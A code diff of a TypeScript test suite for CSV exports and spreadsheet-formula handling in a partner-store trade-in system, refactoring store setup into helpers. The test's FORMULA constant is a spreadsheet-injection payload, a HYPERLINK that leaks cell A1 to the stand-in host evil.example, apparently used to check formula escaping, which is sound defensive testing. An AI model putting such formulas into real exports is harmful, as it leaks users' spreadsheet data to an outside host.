@@ -20,10 +20,11 @@ import {
   scopeOf,
 } from "../../core/partner-users/index.server.ts";
 import { rows } from "../../core/shared/index.server.ts";
-import { partners, partnerStores } from "../../db/schema/index.ts";
+import { partners } from "../../db/schema/index.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
 import { BACKOFFICE, bearer, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
 import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
+import { insertTestStore, walkInTrade } from "../../tests/helpers/store-trades.ts";
 import { staffEnvFrom } from "../sessions/staff-env.server.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
@@ -114,43 +115,18 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
       createdAt: now,
       updatedAt: now,
     });
-    const [store] = await db
-      .insert(partnerStores)
-      .values({
-        partnerId,
-        name: FORMULA,
-        street: "Hauptstraße",
-        houseNumber: "1",
-        zip: "10115",
-        city: "Berlin",
-        email: `formel.${partnerId.slice(0, 8)}@example.com`,
-      })
-      .returning({ id: partnerStores.id });
+    const storeId = await insertTestStore(ctx(), partnerId, FORMULA, `formel.${partnerId.slice(0, 8)}@example.com`);
     const env = staffEnvFrom(ctx().deps, uniqueClientAddress());
     const email = `store_staff.${partnerId.slice(0, 8)}@filiale.example`;
     const { token } = await invitePartnerUser(
       env,
       { id: "staff", email: "admin@example.com" },
-      { partnerId, email, displayName: "Petra Filiale", roles: ["store_staff"], storeId: store!.id },
+      { partnerId, email, displayName: "Petra Filiale", roles: ["store_staff"], storeId },
     );
     await setPartnerPassword(env, token, "Filiale-Passwort-2026");
     const { context } = await partnerLogin(env, { email, password: "Filiale-Passwort-2026" }, "web");
     const { offerId } = await smartphoneOffer(ctx());
-    await createStoreTrade(
-      db,
-      context,
-      {
-        offerId,
-        firstName: "Wanda",
-        lastName: "Laufkundin",
-        email: "wanda@example.com",
-        street: null,
-        houseNumber: null,
-        zip: null,
-        city: null,
-      },
-      now,
-    );
+    await createStoreTrade(db, context, walkInTrade(offerId, "Wanda", "Laufkundin", "wanda@example.com"), now);
 
     const month = now.toLocaleDateString("sv-SE", { timeZone: "Europe/Berlin" }).slice(0, 7);
     const report = await monthReport(db, scopeOf(context.user), month);
